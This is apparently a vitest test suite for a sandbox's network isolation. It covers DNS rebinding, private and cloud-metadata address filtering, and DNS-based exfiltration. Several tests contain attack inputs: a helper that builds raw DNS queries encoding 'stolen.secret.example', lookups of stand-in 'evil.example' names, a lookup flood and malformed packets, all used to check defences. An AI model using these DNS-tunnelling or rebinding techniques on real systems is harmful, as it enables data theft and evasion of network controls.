import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { World } from './world/world.ts'

let world: World
beforeAll(async () => {
  world = await World.make()
})
afterAll(() => world?.[Symbol.asyncDispose]())

describe('a name that changes its mind', () => {
  test('public at first, private then: what is connected to is public or nothing', async () => {
    const id = await world.create()
    await world.say({ 'rebind.example': { A: [['11.22.33.44'], ['10.9.8.7']] } })
    await world.forget()
    const said: string[] = []
    for (let attempt = 0; attempt < 6; attempt += 1)
      said.push(await world.inside(id, 'get("rebind.example", timeout=5)'))
    expect(said[0]).toBe('reached 11.22.33.44 80')
    expect(said.join()).not.toContain('10.9.8.7')
    const { connections } = await world.seen()
    expect(connections.filter((where) => !where.startsWith('11.22.33.44'))).toEqual([])
  })

  test('public and private at once: only the public one is returned', async () => {
    const id = await world.create()
    await world.say({
      'both.example': {
        A: [['10.9.8.7', '11.22.33.44', '127.0.0.1', '169.254.169.254']],
        AAAA: [['fd00:77::7', '::1', '::ffff:10.9.8.7', '2a00:22:33::44']],
      },
    })
    expect(await world.inside(id, 'lookup("both.example")')).toEqual(['11.22.33.44'])
    expect(await world.inside(id, 'lookup("both.example", socket.AF_INET6)')).toEqual(['2a00:22:33::44'])
  })

  test('a name on the list that points at this host or its network reaches neither', async () => {
    const id = await world.create({ mode: 'allow', allow: ['mine.example', '*.mine.example'] })
    const visits = await world.canaryVisits()
    await world.say({
      'mine.example': {
        A: [['127.0.0.1', '11.0.0.2', '10.9.8.7', '169.254.169.254']],
        AAAA: [['::1', 'fd00:77::7']],
      },
    })
    await world.forget()
    for (const port of [80, 9_999]) await world.inside(id, `get("mine.example", ${port}, timeout=5)`)
    for (const address of ['10.9.8.7', '11.0.0.2', '169.254.169.254', 'fd00:77::7'])
      expect(await world.inside(id, `get("${address}", timeout=5)`)).not.toContain('reached')
    expect((await world.seen()).connections).toEqual([])
    expect(await world.canaryVisits()).toBe(visits)
  })
})

describe('asking for names', () => {
  const smuggle = (server: string, transport: 'udp' | 'tcp') => `
import struct
q = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p for p in [b"stolen", b"secret", b"example"]) + b"\\0\\0\\1\\0\\1"
s = socket.socket(socket.AF_INET, socket.SOCK_${transport === 'udp' ? 'DGRAM' : 'STREAM'})
s.settimeout(3)
try:
    s.connect(("${server}", 53))
    s.sendall(q if ${transport === 'udp' ? 'True' : 'False'} else struct.pack(">H", len(q)) + q)
    print(len(s.recv(4096)) > 0)
except OSError as error:
    print(type(error).__name__)
`

  test.each([
    ['a list', { mode: 'allow', allow: ['web.example'] }],
    ['no network', { mode: 'none' }],
  ])('with %s carries nothing out by names that are not on it', async (_what, network) => {
    const id = await world.create(network)
    await world.forget()
    for (const name of [
      'stolen.secret.example',
      'data.evil.example',
      'x.web.example',
      'web.example.evil.example',
    ])
      expect(await world.inside(id, `lookup("${name}")`)).toBe('gaierror')
    for (const server of ['198.18.0.1', '11.0.0.53', '11.22.33.44', '10.255.255.53'])
      for (const transport of ['udp', 'tcp'] as const) await world.server.run(id, smuggle(server, transport))
    expect((await world.seen()).questions).toEqual([])
  })

  test('of a name server of one’s own choice asks ours, which keeps to the policy', async () => {
    const id = await world.create()
    await world.say({ 'stolen.secret.example': { A: [['10.9.8.7']] } })
    await world.forget()
    await world.server.run(id, smuggle('11.22.33.44', 'tcp'))
    const { connections } = await world.seen()
    expect(connections).toEqual([])
  })

  test('that do not exist, in any number, is answered and does not affect other sandboxes', async () => {
    const id = await world.create()
    const neighbour = await world.create()
    const flood =
      'flood = [threading.Thread(target=lambda n=n: [lookup(f"n{n}-{i}.example") for i in range(50)]) for n in range(30)]; [t.start() for t in flood]'
    await world.server.run(id, flood)
    expect(await world.inside(neighbour, 'lookup("web.example")')).toEqual(['11.22.33.44'])
    expect(await world.inside(neighbour, 'get("web.example")')).toMatch(/^reached/)
    await world.server.run(id, '[t.join() for t in flood]')
    expect(await world.inside(id, 'lookup("web.example")')).toEqual(['11.22.33.44'])
  })

  test('with broken packets breaks nothing', async () => {
    const id = await world.create()
    const junk = `
import os
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in list(range(0, 64)) + [512, 1232, 4096, 65000]:
    s.sendto(os.urandom(n), ("198.18.0.1", 53))
for n in (0, 1, 2, 20, 65000):
    try:
        t = socket.create_connection(("198.18.0.1", 53), 3); t.sendall(os.urandom(n)); t.close()
    except OSError: pass
`
    for (let round = 0; round < 5; round += 1) await world.server.run(id, junk)
    expect(await world.inside(id, 'lookup("web.example")')).toEqual(['11.22.33.44'])
  })
})
